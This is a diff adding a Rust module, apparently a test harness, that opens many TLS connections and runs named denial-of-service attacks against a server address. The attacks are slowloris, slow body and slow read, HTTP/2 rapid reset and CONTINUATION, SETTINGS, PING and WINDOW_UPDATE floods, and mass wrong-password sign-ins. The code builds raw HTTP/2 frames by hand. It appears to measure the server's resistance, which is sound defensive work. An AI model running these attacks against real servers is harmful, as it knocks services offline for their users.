@@ -1,0 +1,292 @@
+//! The attackers: a process with as many connections as it was told, all of which do the same.
+//!
+//! Whoever is thrown out comes back, but all together not more often than [`RETURNS_A_SECOND`]: a handshake costs
+//! both sides, and without a bound this would measure nothing else.
+
+use std::{
+    cell::Cell,
+    io,
+    net::SocketAddr,
+    path::Path,
+    rc::Rc,
+    sync::Arc,
+    time::{Duration, Instant},
+};
+
+use hyper::client::conn::http1;
+use hyper_util::rt::TokioIo;
+use rustls::ClientConfig;
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::TcpStream,
+    runtime::{Builder, LocalOptions},
+    task::spawn_local,
+    time::{sleep, timeout},
+};
+use tokio_rustls::client::TlsStream;
+
+use super::user::{client_config, connect, sign_in};
+
+/// One way to attack.
+pub(crate) struct Attack {
+    pub(crate) name: &'static str,
+    /// What all attackers do together.
+    pub(crate) rate: &'static str,
+    protocol: &'static [u8],
+    /// Sent once.
+    begin: fn() -> Vec<u8>,
+    /// Sent again and again; `Vec::new` for nothing.
+    again: fn(u32) -> Vec<u8>,
+    /// How often each of a thousand does that.
+    every: Duration,
+    /// Whether it reads what comes.
+    reads: bool,
+}
+
+pub(crate) const ATTACKS: &[Attack] = &[
+    Attack {
+        name: "slow-loris",
+        rate: "a byte of a head every 4 s each",
+        protocol: b"http/1.1",
+        begin: || b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ".to_vec(),
+        again: |_| b"x".to_vec(),
+        every: Duration::from_secs(4),
+        reads: true,
+    },
+    Attack {
+        name: "slow-body",
+        rate: "a byte of a body every 4 s each",
+        protocol: b"http/1.1",
+        begin: || b"POST /public/x HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n".to_vec(),
+        again: |_| b"x".to_vec(),
+        every: Duration::from_secs(4),
+        reads: true,
+    },
+    Attack {
+        name: "slow-read",
+        rate: "nothing is read of 64 MiB each",
+        protocol: b"http/1.1",
+        begin: || b"GET /public/large HTTP/1.1\r\nHost: localhost\r\n\r\n".to_vec(),
+        again: |_| Vec::new(),
+        every: Duration::from_secs(4),
+        reads: false,
+    },
+    Attack {
+        name: "no-room",
+        rate: "4 streams each with no room for 64 MiB",
+        protocol: b"h2",
+        begin: || {
+            let mut sent = [PREFACE, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])].concat();
+            sent.extend([1, 3, 5, 7].into_iter().flat_map(|stream| get(stream, b"/public/large")));
+            sent
+        },
+        again: |_| Vec::new(),
+        every: Duration::from_secs(4),
+        reads: true,
+    },
+    Attack {
+        name: "rapid-reset",
+        rate: "5,000 requests that are reset a second",
+        protocol: b"h2",
+        begin: preface,
+        again: |turn| {
+            let streams = (0..50).map(|number| 2 * (turn * 50 + number) + 1);
+            streams
+                .flat_map(|stream| {
+                    [get(stream, b"/public/x"), frame(RST_STREAM, 0, stream, &[0; 4])].concat()
+                })
+                .collect()
+        },
+        every: Duration::from_secs(10),
+        reads: true,
+    },
+    Attack {
+        name: "continuation",
+        rate: "10,000 CONTINUATION a second",
+        protocol: b"h2",
+        begin: || [preface(), frame(HEADERS, 0, 1, &block(b"/public/x"))].concat(),
+        again: |_| frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']).repeat(100),
+        every: Duration::from_secs(10),
+        reads: true,
+    },
+    Attack {
+        name: "settings",
+        rate: "10,000 SETTINGS a second",
+        protocol: b"h2",
+        begin: preface,
+        again: |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(100),
+        every: Duration::from_secs(10),
+        reads: true,
+    },
+    Attack {
+        name: "ping",
+        rate: "50,000 PING a second",
+        protocol: b"h2",
+        begin: preface,
+        again: |_| frame(PING, 0, 0, &[7; 8]).repeat(500),
+        every: Duration::from_secs(10),
+        reads: true,
+    },
+    Attack {
+        name: "window-update",
+        rate: "200,000 WINDOW_UPDATE a second",
+        protocol: b"h2",
+        begin: preface,
+        again: |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(2000),
+        every: Duration::from_secs(10),
+        reads: true,
+    },
+    Attack {
+        name: SIGN_IN,
+        rate: "100 wrong passwords a second, 1,000 people",
+        protocol: b"http/1.1",
+        begin: Vec::new,
+        again: |_| Vec::new(),
+        every: Duration::from_secs(10),
+        reads: true,
+    },
+];
+
+/// Attacks until it is killed; says `ready` once all have begun.
+#[expect(clippy::print_stdout, reason = "it tells the process that started it")]
+pub(crate) fn run(name: &str, addr: &str, certificate: &Path, connections: usize) {
+    let attack = ATTACKS.iter().find(|attack| attack.name == name).expect("the name of an attack");
+    let addr: SocketAddr = addr.parse().unwrap();
+    let tls = Arc::new(client_config(certificate, attack.protocol));
+    let runtime = Builder::new_current_thread().enable_all().build_local(LocalOptions::default()).unwrap();
+    runtime.block_on(async move {
+        let begun = Rc::new(Cell::new(0));
+        let turnstile = Rc::new(Turnstile::default());
+        for number in 0..connections {
+            spawn_local(keep_attacking(
+                attack,
+                (Arc::clone(&tls), addr),
+                number,
+                Rc::clone(&begun),
+                Rc::clone(&turnstile),
+            ));
+            // Handshakes take turns, or the first would be late for the limit on them.
+            if number % 20 == 19 {
+                while begun.get() + 20 <= number {
+                    sleep(Duration::from_millis(1)).await;
+                }
+            }
+        }
+        let patience = Instant::now();
+        while begun.get() < connections && patience.elapsed() < Duration::from_secs(30) {
+            sleep(Duration::from_millis(10)).await;
+        }
+        sleep(Duration::from_millis(500)).await;
+        println!("ready");
+        std::future::pending::<()>().await;
+    });
+}
+
+/// Connects and attacks, again and again.
+async fn keep_attacking(
+    attack: &'static Attack,
+    (tls, addr): (Arc<ClientConfig>, SocketAddr),
+    number: usize,
+    begun: Rc<Cell<usize>>,
+    turnstile: Rc<Turnstile>,
+) {
+    let mut is_first = true;
+    loop {
+        if !is_first {
+            turnstile.pass().await;
+        }
+        let stream = connect(&tls, addr).await;
+        if std::mem::take(&mut is_first) {
+            begun.set(begun.get() + 1);
+        }
+        if let Ok(stream) = stream {
+            let attacked = if attack.name == SIGN_IN {
+                guess(stream, number, attack.every).await
+            } else {
+                attack_over(stream, attack, number).await
+            };
+            // Thrown out, most likely: that is what is to be seen.
+            attacked.ok();
+        }
+    }
+}
+
+async fn attack_over(mut stream: TlsStream<TcpStream>, attack: &Attack, number: usize) -> io::Result<()> {
+    stream.write_all(&(attack.begin)()).await?;
+    stream.flush().await?;
+    let mut received = vec![0; 4096];
+    let mut wait = attack.every * u32::try_from(number % 1000).unwrap() / 1000;
+    for turn in 0.. {
+        let until = tokio::time::Instant::now() + wait;
+        wait = attack.every;
+        while let Some(left) = until.checked_duration_since(tokio::time::Instant::now()) {
+            if !attack.reads {
+                sleep(left).await;
+            } else if let Ok(read) = timeout(left, stream.read(&mut received)).await
+                && read? == 0
+            {
+                return Ok(());
+            }
+        }
+        stream.write_all(&(attack.again)(turn)).await?;
+        stream.flush().await?;
+    }
+    Ok(())
+}
+
+/// Tries wrong passwords of people who are not there, as a browser would.
+async fn guess(stream: TlsStream<TcpStream>, number: usize, every: Duration) -> io::Result<()> {
+    let (mut sender, connection) = http1::handshake(TokioIo::new(stream)).await.map_err(io::Error::other)?;
+    spawn_local(connection);
+    // Spread over the whole time, not all at once.
+    sleep(every * u32::try_from(number % 1000).unwrap() / 1000).await;
+    loop {
+        sender.ready().await.map_err(io::Error::other)?;
+        sign_in(&mut sender, &format!("user{number}"), "wrong horse").await;
+        sleep(every).await;
+    }
+}
+
+/// Lets so many through a second.
+#[derive(Default)]
+struct Turnstile(Cell<Option<tokio::time::Instant>>);
+
+impl Turnstile {
+    async fn pass(&self) {
+        let now = tokio::time::Instant::now();
+        let next = self.0.get().map_or(now, |last| now.max(last + Duration::from_secs(1) / RETURNS_A_SECOND));
+        self.0.set(Some(next));
+        tokio::time::sleep_until(next).await;
+    }
+}
+
+fn preface() -> Vec<u8> {
+    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let len = u32::try_from(payload.len()).unwrap().to_be_bytes();
+    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
+}
+
+fn get(stream: u32, path: &[u8]) -> Vec<u8> {
+    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block(path))
+}
+
+/// `GET https://localhost/PATH` (RFC 7541: the static table has method and scheme).
+fn block(path: &[u8]) -> Vec<u8> {
+    let path_length = u8::try_from(path.len()).unwrap();
+    [&[0x82, 0x87, 0x01, 9][..], b"localhost", &[0x04, path_length], path].concat()
+}
+
+const RETURNS_A_SECOND: u32 = 50;
+const SIGN_IN: &str = "sign-in";
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const WINDOW_UPDATE: u8 = 8;
+const CONTINUATION: u8 = 9;
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
